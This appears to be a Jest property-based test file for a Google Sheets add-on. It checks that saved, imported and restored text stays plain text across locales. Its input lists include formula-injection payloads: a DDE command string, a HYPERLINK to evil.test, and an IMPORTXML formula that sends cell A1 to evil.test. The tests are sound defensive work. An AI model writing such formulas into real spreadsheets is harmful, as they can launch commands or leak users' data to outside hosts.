/** Nothing that a page or a document brings becomes a formula, a number or a day: every action that writes, in every locale, in cells of any format. */
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { type Host, newWorkbook } from '../../host/index';
import { COLUMN_KEYS } from '../../src/core/step';
import type { Deleted, SettingLine, SidebarData } from '../../src/server/answers';
import { fromPage, openAddOn } from '../support/addon';

const HEADERS = [
  'ส่วน',
  'มาตรการ',
  'ขั้นตอน',
  'ผู้รับผิดชอบ',
  'กำหนดแล้วเสร็จ',
  'สถานะ',
  'ผลการดำเนินการ',
  'วันที่แล้วเสร็จ',
  'หลักฐาน',
  'หมายเหตุ',
];
const COLUMNS = [
  'section',
  'measure',
  'step',
  'responsible',
  'due',
  'status',
  'result',
  'completedOn',
  'evidence',
] as const;
const OWN = 'แผนของเรา';

/** Cells of automatic format, as staff's own sheet has them: what is written there is read by Sheets as if it were typed. */
function openOwnSheet(locale: string): Host {
  const host = openAddOn({ workbook: newWorkbook({ locale }) });
  host.type(OWN, 'A1', [
    HEADERS,
    ['OIT', '1 มาตรการ', '1.1 ขั้นตอน', 'กองคลัง', 'ปี 2568', 'ยังไม่เริ่ม', '', '', '', 'บันทึกเอง'],
  ]);
  fromPage(host, 'adoptSheet', { sheet: OWN, how: 'use' });
  return host;
}

const BEGIN = [
  '=',
  '+',
  '-',
  '@',
  "'",
  '\t=',
  '\r=',
  ' =',
  '\n@',
  '＝',
  '＋',
  '－',
  '＠',
  '#',
  '(',
  '1',
  '๒',
  '฿ ',
  '{=',
  '',
];
const REST = [
  '1+1',
  'SUM(1;2)',
  'SUM(1,2)',
  'HYPERLINK("https://evil.test";"กด")',
  "cmd|'/C calc'!A0",
  '1',
  '1)',
  '24/4/2566',
  '1e5',
  '10:30',
  '50%',
  '24 เม.ย. 2566',
  ' มีนาคม 2568',
  'TRUE',
  "'x",
  'IMPORTXML(CONCAT("https://evil.test/?";A1);"//a")',
  'R[0]C[0]',
];
/** What looks like something else than text, in one locale or another. */
const tricky = fc.tuple(fc.constantFrom(...BEGIN), fc.constantFrom(...REST)).map((parts) => parts.join(''));
/** The same in every run; so many that each beginning and each rest is there. */
const texts = (count: number, seed: number): string[] => fc.sample(tricky, { numRuns: count, seed });

/** The formulas of the spreadsheet, but for the links that the check makes of its own words. */
const OURS = /^=HYPERLINK\("#gid=\d+(?:&range=[A-Z]+\d+|&range=\d+:\d+)?";"[^"]*"\)$/;
const formulasIn = (host: Host): string[] =>
  host.workbook.sheets.flatMap(({ cells }) =>
    cells.flatMap((row) => (row ?? []).flatMap((cell) => cell?.formula ?? [])),
  );
const strange = (host: Host): string[] => formulasIn(host).filter((formula) => !OURS.test(formula));

/** The values of a row as they are stored: a number is a number. */
const stored = (host: Host, sheet: string, row: number): unknown[] =>
  Array.from({ length: HEADERS.length }, (_, column) => host.sheet(sheet).cells[row - 1]?.[column]?.value ?? '');

const rowOf = (values: readonly string[]) => Object.fromEntries(COLUMNS.map((key, i) => [key, values[i] ?? '']));
const load = (host: Host) => fromPage<SidebarData>(host, 'loadSidebar', {});

describe.each(['th_TH', 'en_US', 'de_DE'])('in a spreadsheet of %s', (locale) => {
  const seed = locale.charCodeAt(0);
  const [first = [], second = [], third = []] = [0, 1, 2].map((i) => texts(COLUMNS.length, seed + i));

  test('a step that is saved, added, deleted and brought back, and a fix, say what was written', () => {
    const host = openOwnSheet(locale);
    const [step] = load(host).steps;
    if (!step) throw new Error('no step');
    fromPage(host, 'saveStep', { row: 2, etag: step.etag, base: null, texts: rowOf(first) });
    expect(stored(host, OWN, 2).slice(0, COLUMNS.length)).toEqual(first);
    fromPage(host, 'saveStep', { row: null, etag: null, base: null, texts: rowOf(second), after: 2 });
    expect(stored(host, OWN, 3).slice(0, COLUMNS.length)).toEqual(second);

    const [, added] = load(host).steps;
    host.type(OWN, 'J3', [["'=9+9"]]);
    const deleted = fromPage<Deleted>(host, 'deleteStep', { row: 3, etag: added?.etag ?? '' });
    fromPage(host, 'restoreStep', deleted.undo);
    expect(stored(host, OWN, 3)).toEqual([...second, '=9+9']);

    const [kept] = load(host).steps;
    const fixes = COLUMN_KEYS.flatMap((column, i) => {
      const before = kept?.texts[column] ?? '';
      return before.trim() !== '' && COLUMNS.some((key) => key === column)
        ? [{ row: 2, column, before, after: third[i] ?? '' }]
        : [];
    });
    fromPage(host, 'applyFixes', { fixes });
    for (const { column, after } of fixes) expect(stored(host, OWN, 2)[COLUMNS.indexOf(column as never)]).toBe(after);
    expect(strange(host)).toEqual([]);
  });

  test('an import, its sections and settings, the check, the summary, the log and a new year write text alone', () => {
    const host = openOwnSheet(locale);
    const many = texts(40, seed + 7);
    const steps = many.map((text, i) => ({
      section: `ส${i % 3}`,
      measureNo: text,
      measure: text,
      measureCell: text,
      stepNo: text,
      step: text,
      stepCell: text,
      responsible: text,
      due: text,
      status: 'unknown',
      statusText: text,
      result: text,
      completedOn: text,
      evidence: text,
      lines: [1],
    }));
    const [title = '', agency = '', intro = '', code = '', heading = '', analysis = ''] = texts(6, seed + 9);
    fromPage(host, 'importDocument', {
      document: {
        title,
        agency,
        intro,
        fiscalYear: 2568,
        sections: [{ code, heading, analysis, score: 1.5, row: null }],
        steps,
      },
    });
    const body = host
      .sheet(OWN)
      .cells.slice(2)
      .map((_, i) => stored(host, OWN, i + 3));
    expect(body.map((row) => row.slice(1, COLUMNS.length))).toEqual(
      many.map((text) => Array(COLUMNS.length - 1).fill(text)),
    );
    const setting = (label: string) => host.display('ตั้งค่า').find((row) => row[0] === label)?.[1];
    expect([setting('ชื่อรายงาน'), setting('ชื่อหน่วยงาน'), setting('บทนำ')]).toEqual([title, agency, intro]);
    expect(host.display('ส่วนรายงาน').slice(-1)[0]?.slice(0, 3)).toEqual([code, heading, analysis]);

    for (const action of ['checkSheet', 'summariseSheet', 'createReport']) host.run(action);
    host.answer('YES');
    host.run('startNewYear');
    expect(host.workbook.sheets.map(({ name }) => name)).toContain(`${OWN} 2568`);
    expect(formulasIn(host).length).toBeGreaterThan(10);
    expect(strange(host)).toEqual([]);
  });

  test('settings that are saved say what was written', () => {
    const host = openOwnSheet(locale);
    const { lines } = fromPage<{ lines: SettingLine[] }>(host, 'loadSettings', {});
    const free = ['agency', 'itemCode', 'itemName', 'title', 'intro', 'problems', 'suggestions', 'units'] as const;
    const values = Object.fromEntries(texts(free.length, seed + 3).map((text, i) => [free[i], text]));
    const before = Object.fromEntries(lines.map(({ key, value }) => [key, value]));
    fromPage(host, 'saveSettings', { values, before });
    const after = fromPage<{ lines: SettingLine[] }>(host, 'loadSettings', {}).lines;
    for (const key of free) expect([key, after.find((line) => line.key === key)?.value]).toEqual([key, values[key]]);
    expect(strange(host)).toEqual([]);
  });
});
